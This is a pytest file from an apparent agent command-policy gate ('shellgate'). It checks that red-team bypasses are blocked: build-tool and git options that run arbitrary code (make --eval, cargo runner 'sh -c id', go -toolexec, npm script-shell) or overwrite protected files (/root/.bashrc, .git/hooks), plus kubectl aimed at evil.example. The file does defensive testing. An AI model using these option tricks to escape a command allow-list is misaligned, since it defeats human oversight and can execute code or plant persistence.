"""Allowed build tools and git: options that run new code or write anywhere.

The shipped ci policy allows ``make *``, ``pytest *``, ``cargo build *``, ``go
test *``, ``tox *``, ``mypy *``, ``ruff *`` and ``git log *``; the enterprise one
``kubectl get *``. A red-team pass got code run or protected files written
through their options; each case here is decided by the real policy set, next
to a benign neighbour that must keep its decision.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pytest

from shellgate import load_config
from shellgate.decider import Decider
from shellgate.models import CallInfo
from shellgate.shell import analyse

REPO = Path(__file__).resolve().parents[2]
WORKSPACE = "/work/redteam-project"
Decide = Callable[[str], str]


def _decider(policy: str, subject: str) -> Decide:
    config = load_config(
        None,
        policy={"paths": [str(REPO / "policies" / policy)]},
        audit={"path": None},
        executor={"workspace": WORKSPACE},
    )
    decider = Decider(config)

    def run(command: str) -> str:
        call = CallInfo(
            tool="bash", command=command, subject=subject, tenant="web",
            session="redteam", workdir=WORKSPACE, workspace=WORKSPACE,
        )  # fmt: skip
        return decider.decide(call).effect

    return run


@pytest.fixture(scope="module")
def ci() -> Decide:
    return _decider("ci", "ci")


@pytest.fixture(scope="module")
def enterprise() -> Decide:
    return _decider("enterprise", "alice")


RUNS_NEW_CODE = [
    'make --eval="x:;rm -rf ~"',
    "make --ev=x",
    'make -E "all:;@id"',
    "make -j4 -E x",
    "make -f - <<<'all:;id'",
    "make --file=/dev/stdin",
    "make --makef=/proc/self/fd/0",
    "make SHELL=/tmp/evil test",
    'make CC="gcc; id" all',
    'cargo build --config target.x86_64-unknown-linux-gnu.runner="sh -c id"',
    "cargo test --config=build.rustc-wrapper=/tmp/w",
    "go test -exec /tmp/x ./...",
    "go test --exec=/tmp/x ./...",
    "go build -toolexec=/tmp/x ./...",
    "go vet -vettool /tmp/x ./...",
    "tox -x testenv.commands=id",
    "tox -rx testenv.commands=id",
    "tox --overr testenv.commands=id",
    "mypy --install-types --non-interactive",
    "mypy --install-t src",
    "python -m mypy --install-types",
    # `--` as the argument of the option before it: the options go on.
    "make -- 'x:=$(shell touch /tmp/p)'",
    "make -o -- --eval='$(shell id)'",
    "make -W -- SHELL=/tmp/evil",
    "make MAKEFILES=/dev/stdin",
    "make foo CC='sh -c \"id\" x'",
    "npm run build '--node-opt=--import=data:x'",
    "npm run build --script-sh=/tmp/x",
    "npm test --userc=/tmp/npmrc",
]
STILL_ALLOWED_IN_CI = [
    "make", "make -j4 test", "make CFLAGS=-O2 test", "make -f Makefile test",
    "cargo build --release", "go test ./...", "go test -run TestX ./...", "tox -e py311",
    "mypy src", "pytest -q", "pytest --junitxml=reports/junit.xml", "ruff check src",
    "ruff check --output-file=ruff.json src", "go build -o bin/app .",
]  # fmt: skip
PROTECTED_WRITES = [
    "git log --output=/root/.bashrc",
    "git log -p --outp=/root/.bashrc",
    "git -C /root log --output=.bashrc",
    "git diff --output=.git/hooks/pre-commit",
    "pytest --junitxml=/root/.bashrc",
    "pytest --junit-x=/root/.profile",
    "pytest --log-file=.git/hooks/post-checkout",
    "mypy --html-report /root/.ssh src",
    "ruff check -o /root/.bashrc",
    "go build -o /root/.bashrc ./...",
    "go test -coverprofile=/root/.bashrc ./...",
]
OUTSIDE_OR_WIPING = [
    "pytest --basetemp=.",
    "pytest --basetemp=/etc",
    "python -m pytest --basetemp=src",
    "pytest --junitxml=/tmp/elsewhere.xml",
    "git format-patch -o /etc HEAD~1",
    "git archive -o /srv/x.tar HEAD",
    "git bundle create /srv/repo.bundle HEAD",
    # Text --format chooses (a Makefile, a conftest.py) is a write like `> F`
    # (test_redteam_git.py): outside the workdir it is not allowed.
    "git log --output=/srv/log.txt",
]


@pytest.mark.parametrize("command", RUNS_NEW_CODE)
def test_options_that_run_new_code_are_not_allowed(ci: Decide, command: str) -> None:
    assert ci(command) != "allow"


@pytest.mark.parametrize("command", STILL_ALLOWED_IN_CI)
def test_the_ordinary_build_stays_allowed(ci: Decide, command: str) -> None:
    """policies/ci runs builds unasked, confined (issue 22): sandbox, never ask."""
    assert ci(command) == "sandbox"
    assert ci("git log --oneline") == "allow"  # read-only: allowed, not confined


@pytest.mark.parametrize("command", PROTECTED_WRITES)
def test_option_writes_to_protected_paths_are_denied(ci: Decide, command: str) -> None:
    assert ci(command) == "deny"


@pytest.mark.parametrize("command", OUTSIDE_OR_WIPING)
def test_option_writes_outside_the_workdir_or_wipes_are_not_allowed(
    ci: Decide, command: str
) -> None:
    assert ci(command) != "allow"


@pytest.mark.parametrize(
    "command",
    [
        "kubectl get pods --kubeconfig=/dev/stdin",
        "kubectl get pods --kubeconfig /tmp/k.yaml",
        "kubectl get pods -L -- --kubeconfig=/tmp/kc.yaml",
        "rg -e -- --pre=sh /dev/stdin",
    ],
)
def test_a_kubeconfig_on_the_command_line_is_not_allowed(
    enterprise: Decide, command: str
) -> None:
    assert enterprise(command) != "allow"
    assert enterprise("kubectl get pods") == "allow"


@pytest.mark.parametrize(
    ("command", "target"),
    [
        ("git -C sub log --output=out.txt", "/w/sub/out.txt"),
        ("git format-patch -o patches HEAD~2", "/w/patches"),
        ("git archive -oout.tar HEAD", "/w/out.tar"),
        ("pytest --cov-report=xml:cov/c.xml", "/w/cov/c.xml"),
        ("pytest -o cache_dir=.c", "/w/.c"),
        ("pytest --debug", "/w/pytestdebug.log"),
        ("python3 -m pytest --basetemp=tmp", "/w/tmp"),
        ("npm test --script-shell=/tmp/x", None),
    ],
)
def test_option_write_targets(command: str, target: str | None) -> None:
    # The command's own segment comes first (npm's script shell is a program segment too).
    segment = analyse(command, workdir="/w").segments[0]
    if target is None:
        assert any("npm scripts" in f for f in segment.findings)
    else:
        assert target in segment.write_paths


REVIEW_FINDINGS = [
    "make -iE 'all:;@id'",
    "make -if - <<<'all:;@id'",
    "make 'X!=reboot'",
    "make --f=-",
    "make -f//dev/stdin",
    "npm test -script-shell=/tmp/x",
    "npm test ---script-shell=/tmp/x",
    "npm test -scr=/tmp/x",
    "mypy @/dev/stdin <<<'--install-types'",
    "mypy --python-executable=/tmp/x src",
]


@pytest.mark.parametrize("command", REVIEW_FINDINGS)
def test_review_findings_are_not_allowed(ci: Decide, command: str) -> None:
    assert ci(command) != "allow"


def test_plain_make_flags_stay_allowed(ci: Decide) -> None:
    assert ci("make -i test") == "sandbox"
    assert ci("make -k -j4 all") == "sandbox"


@pytest.mark.parametrize(
    "command",
    [
        "pytest -o log_file=/root/.bashrc",
        "pytest -o log_file=.git/config",
        "pytest -xo cache_dir=.git/hooks",
        "pytest -ocache_dir=.git/hooks",
        "pytest --override-ini=log_file=.git/config",
        "ruff check -eo .git/config .",
        "ruff check --cache-dir=/root/.ssh",
        "cargo build --target-dir=/root/.ssh",
        "tox -e py --result-json=/root/.bashrc",
        "npm test --cache=/root/.ssh",
    ],
)
def test_more_option_writes_to_protected_paths_are_denied(ci: Decide, command: str) -> None:
    assert ci(command) == "deny"


def test_kubectl_pointed_at_another_server_is_not_allowed(enterprise: Decide) -> None:
    assert enterprise("kubectl get pods --server=https://evil.example") != "allow"
    assert enterprise("kubectl get pods -s https://evil.example") != "allow"
